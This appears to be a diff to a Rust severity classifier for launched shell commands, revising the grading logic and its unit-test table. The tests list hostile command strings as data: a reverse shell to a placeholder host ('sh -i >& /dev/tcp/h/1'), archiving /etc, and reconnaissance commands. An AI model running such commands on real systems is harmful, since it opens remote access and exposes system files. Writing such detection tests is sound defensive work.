@@ -49,12 +49,14 @@ enum Says {
 pub fn told(launched: &Launched<'_>) -> Option<(Severity, &'static str)> {
     let kind = launched.program.kind;
     let (grade, why) = (kind != Kind::Other).then(|| grade(kind, 0))?;
+    let near = launched.is_near(grade);
     let high = match grade {
-        Grade::Plain => false,
-        Grade::Anyones => {
-            launched.is_near(grade) && launched.could_be_told(launched.program.text().map_or(0, str::len))
+        Grade::Plain if near && launched.could_be_hidden() => {
+            return Some((Severity::High, "its request says what cannot be read, and nothing of this"));
         }
-        Grade::Looks => launched.is_near(grade),
+        Grade::Plain => false,
+        Grade::Anyones => near && launched.could_be_told(),
+        Grade::Looks => near && launched.could_be_left(),
         Grade::Enters => true,
     };
     Some((if high { Severity::High } else { Severity::Medium }, why))
@@ -167,7 +169,7 @@ fn is_hidden(program: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::{
-        super::launched::{Below, tests::scene},
+        super::launched::{Below, Room, tests::scene},
         *,
     };
 
@@ -282,19 +284,30 @@ mod tests {
     #[test]
     fn who_told_it_decides() {
         use Severity::{High, Medium};
-        let (near, room, other): (Below, _, _) = (Below::Child, Some, Below::Deeper { ordered: false });
-        let cases: &[(&[&str], Below, Option<usize>, Severity)] = &[
-            (&["sh", "-c", "ls -la /srv"], near, None, High),
+        let (near, other) = (Below::Child, Below::Deeper { ordered: false });
+        let unknown = Room::default();
+        let room = |open| Room { open: Some(open), before: Some(0), opaque: 0 };
+        let before = Room { before: Some(24), ..room(0) };
+        let opaque = Room { opaque: 24, ..room(24) };
+        let cases: &[(&[&str], Below, Room, Severity)] = &[
+            (&["sh", "-c", "ls -la /srv"], near, unknown, High),
             (&["sh", "-c", "ls -la /srv"], near, room(4), Medium),
             (&["sh", "-c", "ls -la /srv"], near, room(24), High),
             (&["python3", "-c", "print(1)"], near, room(0), Medium),
             (&["bash", "-s"], near, room(0), Medium),
             (&["bash", "-s"], near, room(2), High),
-            (&["sh", "-c", "id"], near, room(0), High),
-            (&["sh", "-c", "id"], other, None, Medium),
-            (&["sh", "-c", "ls"], other, None, Medium),
-            (&["sh", "-c", "sh -i >& /dev/tcp/h/1"], other, None, High),
-            (&["sh", "-c", "convert a b | head"], near, None, Medium),
+            (&["bash", "-s"], near, before, Medium),
+            (&["sh", "-c", "id"], near, room(0), Medium),
+            (&["sh", "-c", "id"], near, room(2), High),
+            (&["sh", "-c", "id"], near, before, High),
+            (&["sh", "-c", "ip addr show | grep inet"], near, room(6), Medium),
+            (&["sh", "-c", "tar -czf /srv/x /etc"], near, opaque, High),
+            (&["sh", "-c", "tar -czf /srv/x /etc"], near, room(24), Medium),
+            (&["sh", "-c", "cc x.c"], other, opaque, Medium),
+            (&["sh", "-c", "id"], other, unknown, Medium),
+            (&["sh", "-c", "ls"], other, unknown, Medium),
+            (&["sh", "-c", "sh -i >& /dev/tcp/h/1"], other, unknown, High),
+            (&["sh", "-c", "convert a b | head"], near, unknown, Medium),
         ];
         for (args, below, room, severity) in cases {
             let told = scene(args).ask(|launched| {
